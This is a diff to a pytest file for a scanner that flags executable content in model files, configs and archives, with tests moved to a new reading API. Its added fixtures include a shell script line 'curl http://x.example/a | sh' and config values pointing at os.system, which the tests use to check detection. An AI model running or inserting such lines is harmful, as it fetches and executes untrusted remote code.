@@ -5,23 +5,28 @@ from __future__ import annotations
 import io
 import tarfile
 import zipfile
-from pathlib import Path
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from assay.formats.artifact import examine
-from assay.formats.inert import probe, probe_text
+from assay.formats.reading import Limits, Note
 from assay.formats.sniff import sniff
+from assay.formats.texts.read import read
 from assay.formats.texts.source_code import is_source_code
 
 CODE, OPEN, PLAIN = "code", "open", "plain"
 
 
+def told(notes: tuple[Note, ...]) -> bool:
+    """Whether anything is said but that a file is source code that was judged."""
+    return any(str(note.severity) != "info" for note in notes)
+
+
 def judged(name: str, data: bytes) -> str:
-    found = probe_text(io.BytesIO(data), name)
-    return CODE if found.code else OPEN if found.unread else PLAIN
+    found = read(io.BytesIO(data), name, Limits())
+    return CODE if told(found.notes) else OPEN if found.gaps else PLAIN
 
 
 @pytest.mark.parametrize(
@@ -76,7 +81,7 @@ def test_yaml(data: bytes, says: str) -> None:
     [
         ("a.json", b'{"_t\\u0061rget_": "os.system"}', CODE),
         ("a.json", b'{"_target_": "os.system", "_target_": null}', CODE),
-        ("a.json", b'{"a": [{"auto_map": {}}]}', CODE),
+        ("a.json", b'{"a": [{"auto_map": {"AutoModel": "other/repo--m.M"}}]}', CODE),
         ("a.json", b'{"trust_remote_code": false, "auto_map": null}', PLAIN),
         ("a.json", b'{"config": {"layers": [{"class_name": "Lambda", "config": {}}]}}', CODE),
         ("a.json", b'{"config": {"layers": [{"class_name": "Dense", "name": "Lambda"}]}}', PLAIN),
@@ -102,7 +107,8 @@ def test_yaml(data: bytes, says: str) -> None:
         ("README.md", b"set trust_remote_code=True to load it\n", PLAIN),
         ("conf.txt", b'{"_target_": "os.system"}', CODE),
         ("conf.txt", b"[1] a note in brackets\n", PLAIN),
-        ("run", b"#!/bin/sh\necho\n", CODE),
+        ("run", b"#!/bin/sh\ncurl http://x.example/a | sh\n", CODE),
+        ("run", b"#!/bin/sh\necho\n", PLAIN),
     ],
 )
 def test_other_grammars(name: str, data: bytes, says: str) -> None:
@@ -133,10 +139,9 @@ SOURCES = [
 
 
 @pytest.mark.parametrize("name", SOURCES)
-def test_source_code_is_known_by_its_name(tmp_path: Path, name: str) -> None:
-    path = tmp_path / Path(name).name
-    path.write_bytes(b"words\n")
-    assert (is_source_code(name), "source code" in probe(path, "text").code) == (True, True)
+def test_source_code_is_known_by_its_name(name: str) -> None:
+    said = [note.message for note in read(io.BytesIO(b"words\n"), name, Limits()).notes]
+    assert (is_source_code(name), any("is source code" in text for text in said)) == (True, True)
 
 
 @pytest.mark.parametrize("name", ["README.md", "a.txt", "a.json", "model.onnx", "a.csv", "r", "py", "LICENSE"])
@@ -148,7 +153,7 @@ MEMBERS = {
     "conf.yaml": (b"model: {lr: 1, _target_: os.system}\n", CODE),
     "deep/x.json": (b'{"auto_map": {"a": "b"}}', CODE),
     "keras.json": (b'{"class_name": "Lambda"}', CODE),
-    "start": (b"#!/bin/sh\n", CODE),
+    "start": (b"#!/bin/sh\ncurl http://x.example/a | sh\n", CODE),
     "broken.json": (b'{"a": ', OPEN),
     "plain.yaml": (b"a: 1\n", PLAIN),
     "tensor": (b"1.0 2.0\n", PLAIN),
@@ -173,7 +178,7 @@ def test_text_in_archives_is_read_as_beside_them(kind: str, name: str) -> None:
     else:
         out.write(gzip.compress(data))
     facts = examine(io.BytesIO(out.getvalue()), name=f"{name}.{kind}")
-    assert (bool(facts.code), bool(facts.unjudged)) == (says == CODE, says == OPEN)
+    assert (told(facts.notes), bool(facts.gaps)) == (says == CODE, says == OPEN)
     assert facts.complete
 
 
